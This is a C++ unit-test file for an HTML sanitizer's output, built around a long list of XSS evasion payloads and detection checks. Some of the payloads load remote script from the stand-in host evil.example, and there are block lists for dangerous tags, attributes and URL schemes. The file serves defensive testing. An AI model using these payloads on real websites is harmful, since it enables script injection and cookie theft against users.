// Tests src/render/html/html_allowed.cpp and html_writer.cpp: the output has nothing
// that could run. The vectors are our own, after the families of the OWASP filter
// evasion cheat sheet. They include the known mutations, which are harmless as written,
// but not when parsed again.

#include <algorithm>
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "render/html/html.h"
#include "tamis/parser.h"
#include "tamis/render.h"
#include "url/url.h"

namespace tamis {
namespace {

constexpr const char* kVectors[] = {
    // Scripts, in all spellings.
    "<script>alert(1)</script>word",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>word",
    "<scr<script>ipt>alert(1)</scr</script>ipt>word",
    "<script/xss src=//evil.example></script>word",
    "<<script>alert(1)//<</script>word",
    "<script\n>alert(1)</script\n>word",
    "<script>a=\"</\"+\"script>\";alert(1)</script>word",
    "<script type=module>import('//evil.example')</script>word",
    // Handlers.
    "<img src=x onerror=alert(1)>word",
    "<img src=x OnErRoR = \"alert(1)\">word",
    "<img/src=x/onerror=alert(1)>word",
    "<img \"\"\"><script>alert(1)</script>\">word",
    "<img src=# onmouseover=\"alert('xxs')\">word",
    "<body onload=alert(1)>word",
    "<p onclick=alert(1) onpointerrawupdate=alert(2)>word",
    "<a onmouseover=\"alert(document.cookie)\">word</a>",
    "<details open ontoggle=alert(1)><summary>word</summary></details>",
    "<marquee onstart=alert(1)>word</marquee>",
    "<b on\xC2\xA0"
    "click=alert(1)>word</b>",
    "<p style=animation-name:x onanimationstart=alert(1)>word</p>",
    "<table><td background=javascript:alert(1) onfocus=alert(1)>word</table>",
    "<video><source onerror=alert(1)></video>word",
    "<input autofocus onfocus=alert(1)>word",
    "<select autofocus onfocus=alert(1)><option>word</select>",
    // Links.
    "<a href=javascript:alert(1)>word</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">word</a>",
    "<a href=\"java\tscript:alert(1)\">word</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">word</a>",
    "<a href=\"&#14; javascript:alert(1)\">word</a>",
    "<a "
    "href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;1\">word</a>",
    "<a href=\"&#0000106avascript:1\">word</a>",
    "<a href=\"javascript&colon;alert(1)\">word</a>",
    "<a href=\"javascript&NewLine;:alert(1)\">word</a>",
    "<a href=\" \x01\x1f"
    "javascript:alert(1)\">word</a>",
    "<a href=vbscript:msgbox(1)>word</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">word</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">word</a>",
    "<a href=blob:https://x/1>word</a>",
    "<a href=\"view-source:javascript:1\">word</a>",
    "<a href=\"livescript:x\">word</a>",
    "<base href=javascript:/><a href=alert(1)>word</a>",
    "<base href=\"javascript://x/%0a\"><a href=\"alert(1)\">word</a>",
    "<img src=javascript:alert(1)>word",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">word",
    "<img src='data:image/png;base64,\" onerror=alert(1) x=\"'>word",
    "<img srcset=\"x 1x, javascript:alert(1) 2x\">word",
    "<img data-src=javascript:alert(1)>word",
    "<blockquote cite=javascript:alert(1)>word</blockquote>",
    "<img dynsrc=javascript:1 lowsrc=javascript:2>word",
    // Elements that embed, submit or redirect.
    "<iframe src=javascript:alert(1)></iframe>word",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>word",
    "<object data=javascript:alert(1)>word</object>word",
    "<embed src=javascript:alert(1)>word",
    "<applet code=x>word</applet>word",
    "<form action=javascript:alert(1)><button "
    "formaction=javascript:1>word</button></form>",
    "<isindex action=javascript:1 type=image>word",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">word",
    "<link rel=import href=//evil.example>word",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<bgsound src=javascript:1>word",
    // Style sheets.
    "<style>@import 'javascript:alert(1)';</style>word",
    "<style>p{x:expression(alert(1))}</style><p>word",
    "<p style=\"width:expression(alert(1))\">word",
    "<p style=\"x:ex/**/pression(alert(1))\">word",
    "<p style=\"x:\\65xpression(alert(1))\">word",
    "<p style=\"background:url(javascript:alert(1))\">word",
    "<p style=\"-moz-binding:url(//evil.example/x#y)\">word",
    "<link rel=stylesheet href=javascript:alert(1)>word",
    // Foreign elements and mutation.
    "<svg onload=alert(1)><p>word",
    "<svg><script>alert(1)</script></svg>word",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>word",
    "<svg><style><img src=x onerror=alert(1)></style></svg>word",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>word",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>word",
    "<svg></p><style><g title=\"</style><img src=x onerror=alert(1)>\">word",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">word",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>word",
    "<textarea>&lt;/textarea>&lt;img src=x onerror=alert(1)></textarea>word",
    "<title>&lt;/title>&lt;script>alert(1)&lt;/script></title>word",
    "<title></title><script>alert(1)</script></title>word",
    "<template><script>alert(1)</script><p>word</template>word",
    "<xmp></xmp><img src=x onerror=alert(1)>word",
    "<xmp>&lt;/xmp><img src=x onerror=alert(1)></xmp>word",
    "<plaintext><img src=x onerror=alert(1)></plaintext>",
    "<listing>&lt;img src=x onerror=alert(1)></listing>word",
    "<!--><img src=x onerror=alert(1)>-->word",
    "<![CDATA[><img src=x onerror=alert(1)>]]>word",
    "<p title=\"`onmouseover=alert(1)\">word",
    "<p title='\"><img src=x onerror=alert(1)>'>word",
    "<p lang='\"><img src=x onerror=alert(1)>'>word",
    "<form><div></form><form>word<style></form><img src=x onerror=alert(1)>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;word",
    "<a href='x&quot; onclick=&quot;alert(1)'>word</a>",
    "<x onclick=alert(1)>word</x>",
    "<pre aria-hidden=true>&lt;img src=x onerror=alert(1)></pre>word",
    "<a id=document name=cookie href=x>word</a>",
};

constexpr TagSet kDangerous{
    Tag::script,  Tag::iframe,    Tag::object,    Tag::embed,    Tag::applet,
    Tag::form,    Tag::input,     Tag::button,    Tag::select,   Tag::textarea,
    Tag::svg,     Tag::math,      Tag::template_, Tag::noscript, Tag::base,
    Tag::frame,   Tag::frameset,  Tag::video,     Tag::audio,    Tag::source,
    Tag::xmp,     Tag::plaintext, Tag::listing,   Tag::marquee,  Tag::bgsound,
    Tag::noembed, Tag::noframes,  Tag::keygen,    Tag::canvas};

std::string danger_of_attribute(const std::string& name, const std::string& value) {
  if (name.starts_with("on")) return name;
  for (const char* bad : {"srcdoc", "action", "formaction", "xlink:href", "background",
                          "srcset", "data", "http-equiv", "name"})
    if (name == bad && !(name == "name" && value == "viewport")) return name;
  if (name == "href" || name == "src" || name == "cite") {
    const std::string scheme = url::scheme_of(value);
    const bool is_picture = name == "src" && value.starts_with("data:image/") &&
                            value.find("svg") == std::string::npos;
    if (scheme != "" && scheme != "http" && scheme != "https" && scheme != "mailto" &&
        !is_picture)
      return name + "=" + value;
  }
  const std::string lower_value = value;
  if (name == "style" && (lower_value.find("expression") != std::string::npos ||
                          lower_value.find("url") != std::string::npos ||
                          lower_value.find('\\') != std::string::npos))
    return "style=" + value;
  return "";
}

// Returns anything that could run. `with_styles` allows the style sheets that we write.
std::string danger(const std::string& html, bool with_styles) {
  const Page page = parse(html, "utf-8");
  for (NodeId n = 0; n < page.node_count(); ++n) {
    if (page.kind(n) == Kind::comment) return "a comment";
    if (!page.is_element(n)) continue;
    const std::string name = page.name(n);
    if (page.space(n) != Space::html) return "foreign " + name;
    if (kDangerous.contains(page.tag(n))) return name;
    if (page.tag(n) == Tag::unknown) return "unknown " + name;
    if ((page.tag(n) == Tag::style || page.tag(n) == Tag::link) && !with_styles)
      return name;
    for (const Page::Attribute& attribute : page.attributes(n)) {
      const std::string found = danger_of_attribute(attribute.name, attribute.value);
      if (!found.empty()) return found;
      if (!with_styles && attribute.name == "style") return "style";
    }
  }
  return "";
}

TEST(HtmlSafety, NothingThatRunsComesOut) {
  static_assert(std::size(kVectors) >= 90);
  for (const char* vector : kVectors) {
    for (const bool words : {false, true}) {
      ParseOptions options;
      options.noscript_words = words;
      options.template_words = words;
      options.hide_invisible = words;
      const Page page = parse(vector, "utf-8", options);
      const Mask all(page.word_count(), true);
      EXPECT_EQ(danger(to_html(page, all), false), "") << vector << to_html(page, all);
      EXPECT_EQ(danger(to_html(page, all, {.base_url = "http://a/"}), false), "")
          << vector;
      EXPECT_EQ(danger(to_html(page, all, {.document = true}), false), "") << vector;
      EXPECT_EQ(danger(to_html(page, all, {.document = true, .styles = true}), true),
                "")
          << vector << to_html(page, all, {.document = true, .styles = true});
      EXPECT_EQ(danger(to_highlight(page, Mask(page.word_count())), true), "")
          << vector;
    }
  }
}

TEST(HtmlSafety, MarkdownLinksLeadNowhereElse) {
  for (const char* vector : kVectors) {
    const Page page = parse(vector, "utf-8");
    const std::string markdown = to_markdown(page, Mask(page.word_count(), true));
    for (const char* bad :
         {"](javascript", "](vbscript", "](data", "](blob", "](<java"})
      EXPECT_EQ(markdown.find(bad), std::string::npos) << vector << "\n" << markdown;
  }
}

TEST(HtmlSafety, StyleSheetsAreReadAsBrowsersDo) {
  EXPECT_TRUE(is_safe_css("p { color: red; content: '\\f101' }"));
  EXPECT_TRUE(is_safe_css("@media print { p { display: none } }"));
  EXPECT_FALSE(is_safe_css("p { x: EXPRESSION (1) }"));
  EXPECT_FALSE(is_safe_css("p { x: e\\78 pression(1) }"));
  EXPECT_FALSE(is_safe_css("p { x: ex/* */pression(1) }"));
  EXPECT_FALSE(is_safe_css("@im\\port 'x'"));
  EXPECT_FALSE(is_safe_css("</style><script>"));
}

TEST(HtmlSafety, OnlyTheFirstAttributeOfANameCounts) {
  const Page page = parse("<a href=javascript:1 href=/x title=a title=b>w</a>");
  EXPECT_EQ(to_html(page, Mask(page.word_count(), true)), "<a title=\"a\">w</a>\n");
}

}  // namespace
}  // namespace tamis
